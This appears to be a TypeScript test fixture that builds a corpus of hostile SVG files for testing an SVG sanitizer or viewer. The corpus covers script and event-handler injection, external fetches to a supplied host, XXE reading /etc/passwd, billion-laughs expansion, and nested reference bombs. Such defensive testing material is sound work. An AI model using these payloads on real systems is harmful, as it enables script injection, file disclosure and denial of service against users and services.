import type { HostileFile } from './hostile.files.ts';

const xlink = 'xmlns:xlink="http://www.w3.org/1999/xlink"';

/** Twelve nested elements, each of which draws the previous one ten times. */
function bomb(define: (id: string, inside: string) => string, refer: (id: string) => string): string {
  const rect = (more: string) => `<rect width="1" height="1" ${more}/>`;
  const all = Array.from({ length: 12 }, (_, level) =>
    define(`n${level}`, rect(level ? refer(`n${level - 1}`) : '').repeat(10)),
  );
  return `<g>${all.join('')}${rect(refer('n11'))}</g>`;
}

/** Drawings that run a script, load something from elsewhere or exhaust the viewer. */
export function hostileDrawings(elsewhere: string): HostileFile[] {
  const run = `fetch('${elsewhere}/ran');alert(1)`;
  const url = (name: string) => `${elsewhere}/${name}`;
  const inside: Record<string, string> = {
    script: `<script>${run}</script>`,
    'script-cdata': `<script><![CDATA[${run}]]></script>`,
    'script-src': `<script xlink:href="${url('a.js')}" href="${url('a.js')}"/>`,
    'script-upper': `<SCRIPT>${run}</SCRIPT>`,
    'script-prefixed': `<x:script xmlns:x="http://www.w3.org/2000/svg">${run}</x:script>`,
    'script-in-title': `<title><script>${run}</script></title>`,
    'script-in-style': `<style><script>${run}</script></style>`,
    'click-handler': `<rect width="300" height="300" onclick="${run}" onmouseover="${run}"/>`,
    'begin-handler': `<animate onbegin="${run}" attributeName="x" dur="1s"/>`,
    'focus-handler': `<g tabindex="0" autofocus="" onfocus="${run}"><rect width="9" height="9"/></g>`,
    'foreign-frame': `<foreignObject width="99" height="99"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${url('frame')}"/></foreignObject>`,
    'foreign-image': `<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${run}"/></foreignObject>`,
    'html-script': `<script xmlns="http://www.w3.org/1999/xhtml">${run}</script>`,
    'html-refresh': `<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=${url('refresh')}"/>`,
    'html-sheet': `<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${url('a.css')}"/>`,
    'html-audio': `<audio xmlns="http://www.w3.org/1999/xhtml" autoplay="" src="${url('a.mp3')}"/>`,
    'link-script': `<a href="javascript:${run}"><rect width="300" height="300"/></a>`,
    'use-elsewhere': `<use href="${url('a.svg#a')}"/><use xlink:href="${url('b.svg#b')}"/>`,
    'use-data': `<use href="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' id='x' onload='${encodeURIComponent(run)}'/&gt;#x"/>`,
    'image-elsewhere': `<image width="9" height="9" href="${url('a.png')}" xlink:href="${url('b.png')}"/>`,
    'image-drawing': `<image width="9" height="9" href="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`).toString('base64')}"/>`,
    'filter-image': `<filter id="f"><feImage href="${url('f.png')}"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
    'style-import': `<style>@import url("${url('i.css')}");</style>`,
    'style-import-text': `<style>@import "${url('i.css')}";</style>`,
    'style-url': `<style>rect{fill:url(${url('s.svg#a')});background:url("${url('s.png')}")}</style><rect width="9" height="9"/>`,
    'style-escape': `<style>rect{mask:u\\72l(${url('e.svg#a')})}</style><rect width="9" height="9"/>`,
    'style-image-set': `<style>svg{background:image-set("${url('set.png')}" 1x)}</style>`,
    'style-font': `<style>@font-face{font-family:f;src:url(${url('f.woff')})}text{font-family:f}</style><text y="9">a</text>`,
    'style-attribute': `<rect width="9" height="9" style="fill:url(${url('sa.svg#a')});background:url(${url('sa.png')})"/>`,
    'paint-elsewhere': `<rect width="9" height="9" fill="url(${url('p.svg#a')})" mask="url('${url('m.svg#a')}')" cursor="url(${url('c.cur')})"/>`,
    'set-href': `<a><set attributeName="href" to="javascript:${run}"/><rect width="300" height="300"/></a>`,
    'animate-href': `<image width="9" height="9"><animate attributeName="href" values="${url('v.png')}" dur="1s"/></image>`,
    'set-handler': `<rect width="300" height="300"><set attributeName="onclick" to="${run}"/></rect>`,
    handler: `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${run}</handler>`,
    deep: '<g>'.repeat(20_000),
    many: '<g/>'.repeat(200_000),
    'use-bomb': Array.from(
      { length: 12 },
      (_, level) =>
        `<g id="n${level}">${level ? `<use href="#n${level - 1}"/>`.repeat(10) : '<rect width="1" height="1"/>'}</g>`,
    ).join(''),
    'url-spaces': `<rect width="9" height="9" style="fill:url(${' '.repeat(300_000)}"/>`,
    turbulence: `<filter id="f">${'<feTurbulence baseFrequency="1" numOctaves="9"/>'.repeat(2000)}</filter><rect width="300" height="300" filter="url(#f)"/>`,
    'mask-bomb': bomb(
      (id, inside) => `<mask id="${id}">${inside}</mask>`,
      (id) => `mask="url(#${id})"`,
    ),
    'clip-bomb': bomb(
      (id, inside) => `<clipPath id="${id}">${inside}</clipPath>`,
      (id) => `clip-path="url('#${id}')"`,
    ),
    'pattern-bomb': bomb(
      (id, inside) => `<pattern id="${id}" width="2" height="2">${inside}</pattern>`,
      (id) => `fill="url(#${id})"`,
    ),
    'inherited-bomb': bomb(
      (id, inside) =>
        `<pattern id="${id}" width="2" height="2"><g ${id === 'n0' ? '' : `fill="url(#n${Number(id.slice(1)) - 1})"`}>${inside}</g></pattern>`,
      () => '',
    ),
    'ancestor-bomb': bomb(
      (id, inside) =>
        `<g ${id === 'n0' ? '' : `fill="url(#n${Number(id.slice(1)) - 1})"`}><pattern id="${id}" width="2" height="2">${inside}</pattern></g>`,
      (id) => (id === 'n11' ? 'fill="url(#n11)"' : ''),
    ),
    'marker-bomb': bomb(
      (id, inside) => `<marker id="${id}">${inside}</marker>`,
      (id) => `style="stroke:red;marker-end:url(#${id})"`,
    ),
    'filter-bomb': bomb(
      (id, inside) => `<g id="x${id}">${inside}</g><filter id="${id}"><feImage href="#x${id}"/></filter>`,
      (id) => `filter="url(#${id})"`,
    ),
    'sheet-bomb': `<style>${Array.from({ length: 12 }, (_, level) => `g rect.m${level}{fill:red;mask:url(#m${level})}`).join('')}</style>${bomb(
      (id, inside) => `<mask id="m${id.slice(1)}">${inside}</mask>`,
      (id) => `class="m${id.slice(1)}"`,
    )}`,
    'sheet-repeated': `<style>.a{${'fill:url(#f);'.repeat(100_000)}}</style>${'<g class="a"/>'.repeat(40_000)}`,
  };
  const svg = (content: string, root = '') =>
    `<svg xmlns="http://www.w3.org/2000/svg" ${xlink} viewBox="0 0 300 300" ${root}>${content}</svg>`;
  const laughs = Array.from(
    { length: 10 },
    (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`,
  ).join('');
  const documents: Record<string, string> = {
    ...Object.fromEntries(Object.entries(inside).map(([name, content]) => [name, svg(content)])),
    'load-handler': svg('', `onload="${run}"`),
    base: svg(`<use href="#a"/><image href="a.png"/>`, `xml:base="${url('base/')}"`),
    'sheet-instruction': `<?xml-stylesheet href="${url('x.css')}"?><?xml-stylesheet type="text/xsl" href="${url('x.xsl')}"?>${svg('')}`,
    'entity-file': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text y="20">&x;</text>')}`,
    'entity-elsewhere': `<!DOCTYPE svg [<!ENTITY % x SYSTEM "${url('x.dtd')}"> %x;]>${svg('')}`,
    'entity-script': `<!DOCTYPE svg [<!ENTITY x "<script>${run}</script>">]>${svg('&x;')}`,
    'billion-laughs': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY l0 "ha">${laughs}]>${svg('<text>&l10;</text>')}`,
    'html-before': `<!--><script>${run}</script>-->${svg('')}`,
    'html-after': `${svg('')}<script>${run}</script>`,
  };
  const files = Object.entries(documents).map(([name, text]) => ({
    filename: `${name}.svg`,
    bytes: Buffer.from(text),
  }));
  const wide = Buffer.from(`\ufeff${svg(`<script>${run}</script>`)}`, 'utf16le');
  return [...files, { filename: 'utf-16.svg', bytes: wide }];
}
